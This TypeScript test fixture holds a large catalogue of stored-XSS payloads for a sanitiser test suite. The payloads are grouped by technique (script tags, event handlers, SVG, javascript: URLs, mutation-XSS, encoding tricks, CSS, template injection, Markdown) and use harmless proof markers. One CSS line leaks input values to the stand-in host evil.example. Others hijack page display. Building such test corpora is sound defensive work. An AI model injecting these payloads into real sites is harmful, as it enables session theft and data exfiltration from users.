// Stored-XSS payloads for the corpus suite (xss.spec.ts). Each template holds `$JS`, replaced by a call
// that proves execution: `__xss(n)` (a global the test defines before any page script) or `alert(n)`
// (caught by the dialog hook), n being the payload's number. Grouped by the trick they try; every
// group's payloads are real vectors from published XSS cheat sheets, parsers' mXSS reports and
// template-injection write-ups.

const scriptTags = [
  '<script>$JS</script>',
  '<SCRIPT>$JS</SCRIPT>',
  '<script >$JS</script >',
  '<script/x>$JS</script>',
  '<script\n>$JS</script>',
  '<script type="text/javascript">$JS</script>',
  '<script type="module">$JS</script>',
  '<script src="data:text/javascript,$JS"></script>',
  '<script src=//localhost:1/x.js></script><script>$JS</script>',
  '<scr<script>ipt>$JS</scr</script>ipt>',
  '"><script>$JS</script>',
  "'><script>$JS</script>",
  '</title><script>$JS</script>',
  '</textarea><script>$JS</script>',
  '</style><script>$JS</script>',
  '</script><script>$JS</script>',
  '<!--<script>-->$JS<!--</script>-->',
  '<script>/*</script><script>*/$JS</script>',
];

const eventHandlers = [
  '<img src=x onerror=$JS>',
  '<img src="x" onerror="$JS">',
  "<img src='x' onerror='$JS'>",
  '<IMG SRC=x ONERROR=$JS>',
  '<img src=x onerror=$JS//',
  '<img/src=x/onerror=$JS>',
  '<img src=x onerror\n=$JS>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<body onload=$JS>',
  '<svg onload=$JS>',
  '<input autofocus onfocus=$JS>',
  '<select autofocus onfocus=$JS></select>',
  '<textarea autofocus onfocus=$JS></textarea>',
  '<details open ontoggle=$JS>',
  '<video src=x onerror=$JS></video>',
  '<audio src=x onerror=$JS></audio>',
  '<video><source onerror=$JS></video>',
  '<iframe onload=$JS></iframe>',
  '<object data=x onerror=$JS></object>',
  '<marquee onstart=$JS>x</marquee>',
  '<div onmouseover=$JS style="width:100%;height:100%">hover</div>',
  '<a onclick=$JS href=#>click</a>',
  '<button onclick=$JS>btn</button>',
  '<form><button formaction=javascript:$JS>go</button></form>',
  '<isindex type=image src=1 onerror=$JS>',
  '<div onpointerenter=$JS>p</div>',
  '<style onload=$JS></style>',
  '<link rel=stylesheet href=x onerror=$JS>',
  '<img srcset=",,,,,x" onerror=$JS>',
  '<body onpageshow=$JS>',
  '<x contenteditable onfocus=$JS autofocus>x</x>',
  "<img src=x onerror=\"window['__x'+'ss']&&$JS\">",
];

const svg = [
  '<svg><script>$JS</script></svg>',
  '<svg><script xlink:href=data:,$JS></script></svg>',
  '<svg><animate onbegin=$JS attributeName=x dur=1s>',
  '<svg><set onbegin=$JS attributename=x>',
  '<svg><a xlink:href="javascript:$JS"><text x=20 y=20>svg link</text></a></svg>',
  '<svg><a href="javascript:$JS"><text x=20 y=20>svg2</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=$JS></foreignObject></svg>',
  '<svg><image href=x onerror=$JS />',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=$JS /></svg>#x" />',
  '<svg><style><img src=x onerror=$JS></style></svg>',
  '<svg><title><img src=x onerror=$JS></title></svg>',
  '<svg/onload=$JS>',
  '<math><mtext><table><mglyph><style><img src=x onerror=$JS>',
  '<math href="javascript:$JS">math</math>',
];

const urls = [
  '<a href="javascript:$JS">link</a>',
  '<a href="JaVaScRiPt:$JS">link</a>',
  '<a href=" javascript:$JS">link</a>',
  '<a href="java\tscript:$JS">link</a>',
  '<a href="java\nscript:$JS">link</a>',
  '<a href="&#106;avascript:$JS">link</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;$JS">link</a>',
  '<a href="javascript&colon;$JS">link</a>',
  '<a href="jav&#x09;ascript:$JS">link</a>',
  '<a href="data:text/html,<script>$JS</script>">data</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a>',
  '<a href="vbscript:msgbox(1)">vb</a><img src=x onerror=$JS>',
  '<iframe src="javascript:$JS"></iframe>',
  '<iframe srcdoc="<script>parent.$JS</script>"></iframe>',
  '<embed src="javascript:$JS">',
  '<object data="javascript:$JS"></object>',
  '<form action="javascript:$JS"><input type=submit></form>',
  '<base href="javascript:$JS//">',
  '<meta http-equiv="refresh" content="0;url=javascript:$JS">',
  '<img src="javascript:$JS">',
  '<a href="javascript://%0a$JS">nl</a>',
  '<a href="\u0001javascript:$JS">ctl</a>',
  'javascript:$JS',
  'https://example.com/"onmouseover="$JS',
];

const mxss = [
  '<noscript><p title="</noscript><img src=x onerror=$JS>">',
  '<p><svg><style><a id="</style><img src=1 onerror=$JS>"></a></style></svg></p>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$JS>',
  '<math><mi><table><mi><style><img src=x onerror=$JS>',
  '<svg></p><style><a id="</style><img src=1 onerror=$JS>">',
  '<a title="&lt;/a&gt;&lt;img src=x onerror=$JS&gt;">t</a>',
  '<listing>&lt;img src=x onerror=$JS&gt;</listing>',
  '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=$JS&gt;</textarea>',
  '<xmp><img src=x onerror=$JS></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=$JS>"></noembed>',
  '<iframe><img title="</iframe><img src=x onerror=$JS>"></iframe>',
  '<template><img src=x onerror=$JS></template>',
  '<table><caption><svg><desc><img src=x onerror=$JS>',
  '<select><template><style><!--</style><a rel="--></style><img src=x onerror=$JS>"></template></select>',
  '<img src="x` `<script>$JS</script>"` `>',
  '<div id="x"><!-- --!><img src=x onerror=$JS> --></div>',
  '<![CDATA[><img src=x onerror=$JS>]]>',
  '<?xml-stylesheet ><img src=x onerror=$JS>?>',
];

const encodedAndUnicode = [
  '&lt;img src=x onerror=$JS&gt;',
  '&#60;img src=x onerror=$JS&#62;',
  '%3Cimg%20src%3Dx%20onerror%3D$JS%3E',
  '\\u003cimg src=x onerror=$JS\\u003e',
  '\\x3cimg src=x onerror=$JS\\x3e',
  '＜script＞$JS＜/script＞',
  '<img src=x onerror=\u200b$JS>',
  '<scr\u200bipt>$JS</scr\u200bipt>',
  '<img src=x onerror=&#x24;&#x4A;&#x53;$JS>',
  '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(0);$JS">',
  '<img src=x onerror=eval(atob("dm9pZCAw"));$JS>',
  '<img src=x onerror=eval("\\x5f\\x5fxss");$JS>',
  '\u202e<img src=x onerror=$JS>',
  '<img src=x onerror=$JS>\u2028\u2029',
  '+ADw-script+AD4-$JS+ADw-/script+AD4-',
  '<img src=x onerror=$JS>\ufeff',
  '<ſcript>$JS</ſcript>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$JS">pad</a>',
];

const css = [
  '<style>*{display:none !important}</style>',
  '<style>header,h1{visibility:hidden}</style>',
  '<style>@import "javascript:$JS";</style>',
  '<style>body{background:url("javascript:$JS")}</style>',
  '<div style="background-image:url(javascript:$JS)">bg</div>',
  '<div style="width:expression($JS)">expr</div>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">overlay</div>',
  '<div style="position:absolute;top:-9999px">$JS</div><style>html{transform:rotate(180deg)}</style>',
  '<span style="font-size:99999px">big</span>',
  '<div style="margin-left:-100000px;width:300000px">wide</div>',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<div style="behavior:url(x.htc)">htc</div><img src=x onerror=$JS>',
  '<p style="-moz-binding:url(x.xml#x)">moz</p><img src=x onerror=$JS>',
];

const templateSyntax = [
  "{{constructor.constructor('$JS')()}}",
  "{{$on.constructor('$JS')()}}",
  "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;['a','$JS'].sort(toString.constructor)}}",
  '${$JS}',
  '`${$JS}`',
  '#{$JS}',
  '<%= $JS %>',
  '{{=$JS}}',
  '[[${$JS}]]',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };$JS//');}}",
  '<div v-html="\'<img src=x onerror=$JS>\'"></div>',
  '<div ng-app ng-csp>{{$eval.constructor("$JS")()}}</div>',
  '{{#with "s" as |string|}}{{string.constructor "$JS"}}{{/with}}',
  '<x dangerouslySetInnerHTML={{__html:"<img src=x onerror=$JS>"}}>',
];

const markdown = [
  '[link](javascript:$JS)',
  '[link](JaVaScRiPt:$JS)',
  '[link]( javascript:$JS )',
  '[link](javascript&#58;$JS)',
  '![img](javascript:$JS)',
  '![img](x"onerror="$JS)',
  '[link][ref]\n\n[ref]: javascript:$JS',
  '<javascript:$JS>',
  '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](<javascript:$JS>)',
  '[![x](x)](javascript:$JS)',
  '```\n</code><img src=x onerror=$JS>\n```',
  '`<img src=x onerror=$JS>`',
  '> <img src=x onerror=$JS>',
  '*<img src=x onerror=$JS>*',
  '[link](https://example.com "title\\"onmouseover=$JS")',
  '<details><summary>x</summary>[y](javascript:$JS)</details>',
];

const GROUPS = { scriptTags, eventHandlers, svg, urls, mxss, encodedAndUnicode, css, templateSyntax, markdown };

export interface Payload {
  /** 1-based number the payload reports itself by. */
  n: number;
  group: keyof typeof GROUPS;
  text: string;
}

/** Every payload, numbered; half the groups' payloads report through `__xss`, the others through `alert`. */
export const XSS_PAYLOADS: readonly Payload[] = Object.entries(GROUPS)
  .flatMap(([group, templates]) => templates.map((template) => ({ group: group as keyof typeof GROUPS, template })))
  .map(({ group, template }, index) => {
    const n = index + 1;
    return { n, group, text: template.replaceAll('$JS', n % 2 ? `__xss(${n})` : `alert(${n})`) };
  });

/**
 * The payloads packed into texts of at most `limit` characters, each payload in exactly one text,
 * separated by a line break; payloads longer than `limit` are left out (`skipped`).
 */
export function pack(payloads: readonly Payload[], limit: number): { texts: string[]; skipped: Payload[] } {
  const texts: string[] = [];
  const skipped: Payload[] = [];
  let current = '';
  for (const payload of payloads) {
    if (payload.text.length > limit) {
      skipped.push(payload);
      continue;
    }
    if (current && current.length + 1 + payload.text.length > limit) {
      texts.push(current);
      current = '';
    }
    current = current ? `${current}\n${payload.text}` : payload.text;
  }
  if (current) texts.push(current);
  return { texts, skipped };
}
